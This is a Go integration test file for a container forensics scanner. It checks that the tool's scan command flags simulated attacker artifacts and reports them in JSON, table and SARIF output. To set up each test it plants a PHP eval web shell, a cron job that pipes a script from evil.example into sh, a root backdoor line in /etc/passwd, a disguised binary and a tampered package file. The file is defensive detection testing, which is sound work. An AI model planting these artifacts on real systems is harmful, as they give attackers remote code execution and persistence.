package integration

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/ctrforensics/ctrforensics/forensic/bundle"
	"github.com/ctrforensics/ctrforensics/internal/schemacheck"
	"github.com/ctrforensics/ctrforensics/internal/testdaemon"
	"github.com/ctrforensics/ctrforensics/internal/testimage"
)

// scanFinding is one line of `scan --format json`.
type scanFinding struct {
	Rule     string `json:"rule"`
	Severity string `json:"severity"`
	Path     string `json:"path"`
	Reason   string `json:"reason"`
	Layer    *int   `json:"layer"`
	Hidden   *bool  `json:"hidden"`
}

func scanJSON(t *testing.T, args ...string) []scanFinding {
	t.Helper()
	out := h.mustCLI(t, append([]string{"scan", "--format", "json"}, args...)...)
	var fs []scanFinding
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		if l == "" {
			continue
		}
		var f scanFinding
		if err := json.Unmarshal([]byte(l), &f); err != nil {
			t.Fatalf("scan json line %q: %v", l, err)
		}
		fs = append(fs, f)
	}
	return fs
}

// TestScanArticleAttack plays the first article's attack, and more of what
// attackers leave, and expects each on its own rule, the defaced page on
// none, the evidence untouched, and --fail-on and SARIF to work.
func TestScanArticleAttack(t *testing.T) {
	c := h.runContainer(t, "scan-article", "overlayfs")
	h.attack(t, c, `echo '<h1>hacked by x</h1>' > /var/www/html/index.html
printf '%s\n' "<?php eval(\$_GET['cmd']); ?>" > /var/www/html/shell.php
mkdir -p /tmp/.x /etc/cron.d && cp /bin/busybox /tmp/.x/kworker
echo '* * * * * root wget -qO- http://evil.example/x | sh' > /etc/cron.d/update
echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd`)
	upper := h.upperDir(t, c)
	before, host := captureTree(t, upper), captureHost(t)

	var got []string
	for _, f := range scanJSON(t, c.id) {
		if f.Reason == "" {
			t.Errorf("finding without a reason: %+v", f)
		}
		got = append(got, f.Rule+" "+f.Severity+" "+f.Path)
	}
	sort.Strings(got)
	want := []string{
		"CTRF-FS-001 high /var/www/html/shell.php",
		"CTRF-FS-002 high /tmp/.x/kworker",
		"CTRF-FS-006 medium /etc/cron.d/update",
		"CTRF-FS-007 high /etc/passwd",
		"CTRF-FS-009 high /etc/cron.d/update",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	compareTrees(t, "upper", before, captureTree(t, upper))
	compareHost(t, "after scan", host, captureHost(t))

	table := h.mustCLI(t, "scan", c.id)
	for _, w := range []string{"CTRF-FS-001", `eval($_GET['cmd'])`, "/var/www/html/shell.php", "finding(s)"} {
		if !strings.Contains(table, w) {
			t.Errorf("table lacks %q:\n%s", w, table)
		}
	}
	if r := h.cli(t, "scan", "--fail-on", "high", c.id); r.code != 1 {
		t.Errorf("--fail-on high: exit %d, want 1 (%s)", r.code, r.stderr)
	}
	var sarif struct {
		Runs []struct {
			Results []struct {
				RuleID    string `json:"ruleId"`
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct{ URI string } `json:"artifactLocation"`
					} `json:"physicalLocation"`
				} `json:"locations"`
				PartialFingerprints map[string]string `json:"partialFingerprints"`
			} `json:"results"`
		} `json:"runs"`
	}
	sarifOut := h.mustCLI(t, "scan", "--format", "sarif", c.id)
	if err := json.Unmarshal([]byte(sarifOut), &sarif); err != nil {
		t.Fatal(err)
	}
	schemacheck.ValidateSARIF(t, []byte(sarifOut))
	found := false
	for _, r := range sarif.Runs[0].Results {
		if r.RuleID == "CTRF-FS-001" && r.Locations[0].PhysicalLocation.ArtifactLocation.URI == "var/www/html/shell.php" && len(r.PartialFingerprints) == 1 {
			found = true
		}
	}
	if !found {
		t.Errorf("SARIF lacks the web shell at var/www/html/shell.php with a fingerprint: %+v", sarif)
	}

	bag := filepath.Join(t.TempDir(), "bag")
	h.mustCLI(t, "collect", "-o", bag, c.id)
	if v := h.mustCLI(t, "verify", bag); !strings.Contains(v, "VALID") {
		t.Errorf("verify:\n%s", v)
	}
	b, err := os.ReadFile(filepath.Join(bag, "data/findings/scan.sarif"))
	if err != nil {
		t.Fatal(err)
	}
	schemacheck.ValidateSARIF(t, b)
	if !strings.Contains(string(b), `"uri": "var/www/html/shell.php"`) || !strings.Contains(string(b), `"ruleId": "CTRF-FS-001"`) {
		t.Errorf("the bag's scan.sarif lacks the web shell:\n%s", b)
	}
	compareTrees(t, "upper after collect", before, captureTree(t, upper))
}

// TestScanImageLayers finds a hidden executable dropped in layer 1 and
// deleted in layer 2, with its layer, and scans the untouched busybox image
// and a container's whole root without a high finding.
func TestScanImageLayers(t *testing.T) {
	ctx := h.ctx(t)
	base, err := testimage.Busybox(ctx)
	if err != nil {
		t.Fatal(err)
	}
	img := &testimage.Image{Name: "docker.io/library/scan-hidden:1", Layers: []testimage.Layer{
		{Files: base},
		{Files: []testimage.File{testimage.Dir("/usr", 0o755), testimage.Dir("/usr/lib", 0o755), testimage.Dir("/usr/lib/. ", 0o755),
			testimage.Reg("/usr/lib/. /kthreadd", 0o755, "\x7fELF\x02\x01\x01\x00payload")}},
		{Files: []testimage.File{testimage.Whiteout("/usr/lib/. /kthreadd")}},
	}}
	if _, err := testdaemon.ImportImage(h.daemon.Context(ctx), h.client, img, "overlayfs"); err != nil {
		t.Fatal(err)
	}
	fs := scanJSON(t, img.Name)
	if len(fs) != 1 || fs[0].Rule != "CTRF-FS-002" || fs[0].Path != "/usr/lib/. /kthreadd" || fs[0].Layer == nil || *fs[0].Layer != 1 || !*fs[0].Hidden {
		t.Errorf("want the deleted hidden ELF of layer 1, got %+v", fs)
	}
	if table := h.mustCLI(t, "scan", img.Name); !strings.Contains(table, "1 (deleted later)") {
		t.Errorf("table does not say the file was deleted later:\n%s", table)
	}

	c := h.runContainer(t, "scan-clean", "overlayfs")
	for _, args := range [][]string{{"--all", c.id}, {h.images["overlayfs"].Name()}} {
		for _, f := range scanJSON(t, args...) {
			if f.Severity == "high" {
				t.Errorf("scan %v: high finding on an untouched busybox root: %+v", args, f)
			}
		}
	}
}

// TestScanYaraBuild runs the YARA build (make build-yara, named by
// CTRFORENSICS_YARA_BIN) on the article's attack: a rule matches the shell
// by its bytes, a rules file that does not compile is named and left out;
// the default build answers --rules in one line, exit 2.
func TestScanYaraBuild(t *testing.T) {
	if r := h.cli(t, "scan", "--rules", "x.yar", "anything"); r.code != 2 || !strings.Contains(r.stderr, "make build-yara") || strings.Count(strings.TrimSpace(r.stderr), "\n") != 0 {
		t.Errorf("default build: exit %d, stderr %q; want 2 and one line naming the YARA build", r.code, r.stderr)
	}
	bin := os.Getenv("CTRFORENSICS_YARA_BIN")
	if bin == "" {
		t.Skip("CTRFORENSICS_YARA_BIN is not set (make test-yara sets it)")
	}
	c := h.runContainer(t, "scan-yara", "overlayfs")
	h.attack(t, c, `printf '%s\n' "<?php eval(\$_GET['cmd']); ?>" > /var/www/html/shell.php`)
	rules := t.TempDir()
	os.WriteFile(filepath.Join(rules, "php.yar"), []byte(`rule php_eval { meta: severity = "high" strings: $a = "eval($_GET" condition: $a }`), 0o644)
	os.WriteFile(filepath.Join(rules, "bad.yar"), []byte(`rule bad { condition: $nope }`), 0o644)
	yara := *h
	yara.bin = bin
	r := yara.cli(t, "scan", "--format", "json", "--rules", rules, c.id)
	if r.code != 0 || !strings.Contains(r.stdout, `"rule":"YARA/php.php_eval"`) || !strings.Contains(r.stdout, `"path":"/var/www/html/shell.php"`) {
		t.Errorf("yara build: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "bad.yar did not compile") {
		t.Errorf("the broken rules file is not named: %s", r.stderr)
	}
}

// TestScanPackageFile replaces a dpkg-owned /usr/bin binary in a container
// (and rewrites its md5sums line, which the image's records still catch),
// and expects scan to report it on CTRF-FS-011, in JSON, table and SARIF,
// and not the package's untouched files; an image whose last layer
// replaced the binary is reported at that layer.
func TestScanPackageFile(t *testing.T) {
	ctx := h.ctx(t)
	img, err := testdaemon.ImportImage(ctx, h.client, toolsImage(t), "overlayfs")
	if err != nil {
		t.Fatal(err)
	}
	ctr, task, err := testdaemon.RunContainer(ctx, h.client, "scan-pkg", img, "overlayfs", "/bin/sh", "-c", "sleep 100000")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := testdaemon.RemoveContainer(context.WithoutCancel(ctx), ctr); err != nil {
			t.Errorf("remove container: %v", err)
		}
	})
	c := &container{id: "scan-pkg", snapshotter: "overlayfs", ctr: ctr, task: task}
	if fs := scanJSON(t, "--all", c.id); len(fs) != 0 {
		t.Errorf("untouched container: %+v", fs)
	}
	h.attack(t, c, `cp /bin/busybox /usr/bin/tool && touch -r /usr/bin/other /usr/bin/tool &&
echo "$(md5sum /usr/bin/tool | cut -d' ' -f1)  usr/bin/tool" > /var/lib/dpkg/info/tools.md5sums`)
	for _, args := range [][]string{{c.id}, {"--all", c.id}} {
		var got []string
		for _, f := range scanJSON(t, args...) {
			got = append(got, f.Rule+" "+f.Severity+" "+f.Path)
			if f.Rule == "CTRF-FS-011" && !strings.Contains(f.Reason, "deb package tools 1.0") {
				t.Errorf("reason: %s", f.Reason)
			}
		}
		if want := []string{"CTRF-FS-011 high /usr/bin/tool"}; !slices.Equal(got, want) {
			t.Errorf("scan %v: %v, want %v", args, got, want)
		}
	}
	if table := h.mustCLI(t, "scan", c.id); !strings.Contains(table, "CTRF-FS-011") || !strings.Contains(table, "/usr/bin/tool") {
		t.Errorf("table:\n%s", table)
	}
	sarifOut := h.mustCLI(t, "scan", "--format", "sarif", c.id)
	schemacheck.ValidateSARIF(t, []byte(sarifOut))
	var sarif struct {
		Runs []struct {
			Tool struct {
				Driver struct{ Rules []struct{ ID string } }
			}
			Results []struct {
				RuleID    string `json:"ruleId"`
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct{ URI string } `json:"artifactLocation"`
					} `json:"physicalLocation"`
				} `json:"locations"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal([]byte(sarifOut), &sarif); err != nil {
		t.Fatal(err)
	}
	if rs := sarif.Runs[0].Results; len(rs) != 1 || rs[0].RuleID != "CTRF-FS-011" || rs[0].Locations[0].PhysicalLocation.ArtifactLocation.URI != "usr/bin/tool" {
		t.Errorf("SARIF results: %+v", rs)
	}
	// The bag's findings are scan's, the package rule included.
	bag := filepath.Join(t.TempDir(), "bag")
	h.mustCLI(t, "collect", "-o", bag, c.id)
	bagged := sarif
	bagged.Runs = nil
	raw, err := os.ReadFile(filepath.Join(bag, bundle.ScanSARIF))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(raw, &bagged); err != nil {
		t.Fatal(err)
	}
	if rs := bagged.Runs[0].Results; len(rs) != 1 || rs[0].RuleID != "CTRF-FS-011" || rs[0].Locations[0].PhysicalLocation.ArtifactLocation.URI != "usr/bin/tool" {
		t.Errorf("the bag's %s results: %+v", bundle.ScanSARIF, rs)
	}

	if _, err := testdaemon.ImportImage(ctx, h.client, tamperedImage(t), "overlayfs"); err != nil {
		t.Fatal(err)
	}
	last := len(tamperedImage(t).Layers) - 1
	var got []string
	for _, f := range scanJSON(t, tamperedImageName) {
		if f.Rule == "CTRF-FS-011" {
			got = append(got, fmt.Sprintf("%s %d %v", f.Path, *f.Layer, *f.Hidden))
		}
	}
	if want := []string{fmt.Sprintf("/usr/bin/tool %d false", last)}; !slices.Equal(got, want) {
		t.Errorf("scan of the tampered image: %v, want %v", got, want)
	}
}
